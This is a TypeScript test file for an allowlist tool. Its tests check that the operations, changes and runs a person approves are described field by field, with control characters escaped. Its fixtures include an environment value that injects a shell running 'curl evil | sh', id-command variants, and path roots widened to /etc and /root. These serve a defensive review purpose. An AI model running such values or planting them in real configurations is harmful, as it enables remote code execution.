// The description every native question shows is built from the schema: walking every field of
// OPERATION_FIELDS, RECONCILE_FIELDS, ARG_FIELDS and ARG_TYPE_FIELDS, each appears with its value, and
// a change to any one of them shows as that field, before and after. A field added to the schema is in
// this walk, so it cannot be left out of the questions.
import { describe, expect, it } from 'vitest';
import { ARG_FIELDS, ARG_TYPES, ARG_TYPE_FIELDS, OPERATION_FIELDS, RECONCILE_FIELDS, type FieldSpec } from '../../../../shared/allowlist/schema';
import { changedFields, describeChange, describeOperation, describeRun, operationFields } from '../../../../shared/allowlist/describe';
import { parseAllowlist } from '../../../../main/core/allowlist/load';
import { valuesOf } from '../../../../main/core/ipc/allowlistChanges';

/** A value for a field that is not its default, so that showing the default would not pass. */
function sentinel(name: string, spec: FieldSpec): unknown {
  switch (spec.type.kind) {
    case 'whole':
      return spec.type.min + 7;
    case 'flag':
      return !spec.type.default;
    case 'choice':
      return spec.type.options.find((o) => o !== spec.type.default);
    case 'other':
      return `value-of-${name}`;
  }
}

const withSentinels = (fields: Record<string, FieldSpec>) => Object.fromEntries(Object.entries(fields).map(([f, s]) => [f, sentinel(f, s)]));

/** An argument of `type` with every field the schema gives it set (an array's items: a string with all of its). */
function argOf(type: string, common = true): Record<string, unknown> {
  const typeFields = withSentinels(ARG_TYPE_FIELDS[type as keyof typeof ARG_TYPE_FIELDS]);
  if (type === 'array') typeFields.items = argOf('string', false);
  return { ...(common ? withSentinels(ARG_FIELDS) : {}), ...typeFields, type };
}

/** An operation with every field of the schema set to a value that is not its default. */
function everyField(): Record<string, unknown> {
  return {
    ...withSentinels(OPERATION_FIELDS),
    command: ['/usr/bin/git', 'ls-remote', '{remote}'],
    env: { GIT_SSH_COMMAND: "sh -c 'curl evil | sh'", LANG: 'C' },
    args: Object.fromEntries(ARG_TYPES.map((t) => [`a_${t}`, argOf(t)])),
    reconcile: { ...withSentinels(RECONCILE_FIELDS), command: ['/bin/check', '{request_id}'] },
  };
}

/** The field paths the schema defines for `op` (as the description names them). */
function schemaPaths(op: Record<string, unknown>): string[] {
  const paths: string[] = [];
  for (const f of Object.keys(OPERATION_FIELDS)) {
    if (f === 'args') {
      for (const [name, a] of Object.entries(op.args as Record<string, Record<string, unknown>>)) {
        for (const af of Object.keys(ARG_FIELDS)) paths.push(`args.${name}.${af}`);
        for (const tf of Object.keys(ARG_TYPE_FIELDS[a.type as keyof typeof ARG_TYPE_FIELDS])) {
          if (tf === 'items') paths.push('args.a_array.items.type', ...Object.keys(ARG_TYPE_FIELDS.string).map((sf) => `args.a_array.items.${sf}`));
          else paths.push(`args.${name}.${tf}`);
        }
      }
    } else if (f === 'reconcile') paths.push(...Object.keys(RECONCILE_FIELDS).map((rf) => `reconcile.${rf}`));
    else paths.push(f);
  }
  return paths;
}

function valueAt(op: Record<string, unknown>, path: string): unknown {
  return path.split('.').reduce<unknown>((v, k) => (v as Record<string, unknown>)[k], op);
}

/** `op` with the value at `path` changed (a copy). */
function changedAt(op: Record<string, unknown>, path: string): Record<string, unknown> {
  const copy = structuredClone(op);
  const keys = path.split('.');
  const parent = keys.slice(0, -1).reduce<Record<string, unknown>>((v, k) => v[k] as Record<string, unknown>, copy);
  const last = keys.at(-1)!;
  const v = parent[last];
  parent[last] =
    typeof v === 'number' ? v + 1 : typeof v === 'boolean' ? !v : typeof v === 'string' ? `${v}-changed` : Array.isArray(v) ? [...v, '/etc'] : { ...(v as object), EXTRA: 'x' };
  return copy;
}

describe('describeOperation', () => {
  it('shows every field of the schema, with its value', () => {
    const op = everyField();
    const described = new Map(operationFields(op).map((f) => [f.field, f.text]));
    const paths = schemaPaths(op);
    expect(paths.length).toBeGreaterThan(40);
    for (const p of paths) {
      expect(described.has(p), p).toBe(true);
      const v = valueAt(op, p);
      if (p.endsWith('.type') || p === 'scope' || p === 'approval') expect(described.get(p), p).toBe(v); // keywords
      else if (typeof v === 'string') expect(described.get(p), p).toContain(JSON.stringify(v));
      else if (typeof v === 'number' || typeof v === 'boolean') expect(described.get(p), p).toBe(String(v));
    }
    const text = describeOperation(op);
    // The parts of the fields that decide what runs, each apart.
    expect(text).toContain('command:\n    program: "/usr/bin/git"\n    argument 1: "ls-remote"\n    argument 2: "{remote}"');
    expect(text).toContain(`env:\n    GIT_SSH_COMMAND="sh -c 'curl evil | sh'"\n    LANG="C"`);
    expect(text).toContain('reconcile.command:\n    program: "/bin/check"\n    argument 1: "{request_id}"');
  });

  it("shows an absent field as the schema's default in words", () => {
    const text = describeOperation({ name: 'x', command: ['true'] });
    expect(text).toContain('env: none');
    expect(text).toContain('reconcile: none');
    expect(text).toContain('spools: every spool');
    expect(text).toContain(`cwd: ${OPERATION_FIELDS.cwd.defaultText}`);
  });

  it('escapes what a page or sandbox wrote: no control or bidi character reaches the person raw', () => {
    const text = describeOperation({ name: 'x', command: ['/bin/echo', 'safe\u202e\nevil'], env: { A: '\u001b[2Kx' }, cwd: '/tmp/\u2066dir' });
    for (const raw of ['\u202e', '\u001b', '\u2066', '\nevil']) expect(text).not.toContain(raw);
    expect(text).toContain('argument 1: "safe\\u202e\\nevil"');
    expect(text).toContain('A="\\u001b[2Kx"');
  });

  it("describes the core's parsed operation: roots, environment, reconcile command and the pattern's source", () => {
    const yaml = `version: 1
operations:
  - name: fetch
    command: [git, -C, "{repo}", fetch, "{remote}"]
    env: {GIT_SSH_COMMAND: "sh -c 'id'"}
    args:
      repo: {type: path, within: [/etc, /root]}
      remote: {type: string, pattern: "[a-z]+"}
    leaves_processes: true
    reconcile: {command: [/bin/sh, -c, "exit 0"], timeout_s: 9}
    spools: [default]
`;
    const text = describeOperation(valuesOf(parseAllowlist(yaml).operations.get('fetch')!));
    expect(text).toContain('args.repo.within: "/etc", "/root"');
    expect(text).toContain('args.remote.pattern: "[a-z]+"');
    expect(text).toContain(`GIT_SSH_COMMAND="sh -c 'id'"`);
    expect(text).toContain('reconcile.command:\n    program: "/bin/sh"\n    argument 1: "-c"\n    argument 2: "exit 0"');
    expect(text).toContain('reconcile.timeout_s: 9');
    expect(text).toContain('leaves_processes: true');
    expect(text).toContain('spools: "default"');
  });
});

describe('describeChange', () => {
  it('shows a change of any one field of the schema as that field, before and after', () => {
    const op = everyField();
    // (An argument's type is left alone: another type has other fields, which then differ too.)
    for (const p of schemaPaths(op).filter((x) => !x.endsWith('.type'))) {
      const next = changedAt(op, p);
      const changed = changedFields(op, next);
      expect(changed.map((c) => c.field), p).toEqual([p]);
      expect(changed[0]!.was, p).not.toBe(changed[0]!.now);
      const text = describeChange(op, next);
      expect(text, p).toContain(`${p}:\n    was`);
      expect(text, p).toContain(changed[0]!.was.split('\n')[0]);
      expect(text, p).toContain(changed[0]!.now.split('\n')[0]);
    }
  });

  it('shows roots widened from the project to /etc and /root as they were and as they are', () => {
    const before = { name: 'read', command: ['cat', '{file}'], args: { file: { type: 'path', within: ['/home/me/project'] } } };
    const after = { ...before, args: { file: { type: 'path', within: ['/etc', '/root'] } } };
    expect(describeChange(before, after)).toBe('args.file.within:\n    was: "/home/me/project"\n    now: "/etc", "/root"');
  });
});

describe('describeRun', () => {
  it('shows each argv element, the folder, the environment, the limits and whether processes outlive it', () => {
    const text = describeRun({ argv: ['git', 'ls-remote', 'origin'], cwd: '/home/me/p', env: { GIT_SSH_COMMAND: 'sh -c id' }, timeout_s: 30, max_output_bytes: 4096, leaves_processes: true });
    expect(text.split('\n')).toEqual([
      'program: "git"',
      'argument 1: "ls-remote"',
      'argument 2: "origin"',
      'in folder: "/home/me/p"',
      "environment (added to the host's own): GIT_SSH_COMMAND=\"sh -c id\"",
      'timeout: 30 s',
      'output logged: at most 4096 bytes (stdout and stderr together)',
      'processes it starts: may outlive it (leaves_processes)',
    ]);
  });
});
